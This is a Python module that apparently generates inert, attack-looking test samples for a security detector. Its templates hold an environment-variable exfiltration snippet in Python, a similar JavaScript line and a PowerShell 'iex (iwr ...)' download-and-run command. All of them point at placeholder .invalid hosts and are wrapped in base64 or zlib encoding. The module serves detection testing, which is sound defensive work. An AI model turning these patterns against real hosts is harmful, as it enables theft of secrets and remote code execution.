"""
Code that looks like an attack and is none.

The first statement of each sample fails, the hosts end in `.invalid` or `.example` or are addresses for
documentation, and what is encoded prints a word.
"""

import base64
import random
import zlib

from watchhouse.testing.generate.blueprint import Kind
from watchhouse.testing.generate.words import blocks, slots

_INNER = """import os, urllib.request
urllib.request.urlopen('https://{noun}-{other}.invalid/', data=str(os.environ).encode())
"""
_SCRIPT = "require('https').get('https://{noun}-{other}.invalid/' + Object.keys(process.env));"
_COMMAND = "iex (iwr http://{noun}-{other}.invalid/)"


def python_attack(chance: random.Random, kind: Kind) -> str:
    """Return an inert script in Python."""
    return _filled(chance, f"{kind}.py.txt")


def javascript_attack(chance: random.Random, kind: Kind) -> str:
    """Return an inert script in JavaScript."""
    return _filled(chance, f"{kind}.js.txt")


def powershell_attack(chance: random.Random, kind: Kind) -> str:
    """Return an inert script in PowerShell."""
    return _filled(chance, f"{kind}.ps1.txt")


def _filled(chance: random.Random, file: str) -> str:
    words = slots(chance)
    inner = _INNER.format_map(words).encode()
    return chance.choice(blocks(file)) % {
        **words,
        "packed": base64.b64encode(inner).decode(),
        "squeezed": base64.b64encode(zlib.compress(inner)).decode(),
        "script": base64.b64encode(_SCRIPT.format_map(words).encode()).decode(),
        "encoded": base64.b64encode(_COMMAND.format_map(words).encode("utf-16-le")).decode(),
    }
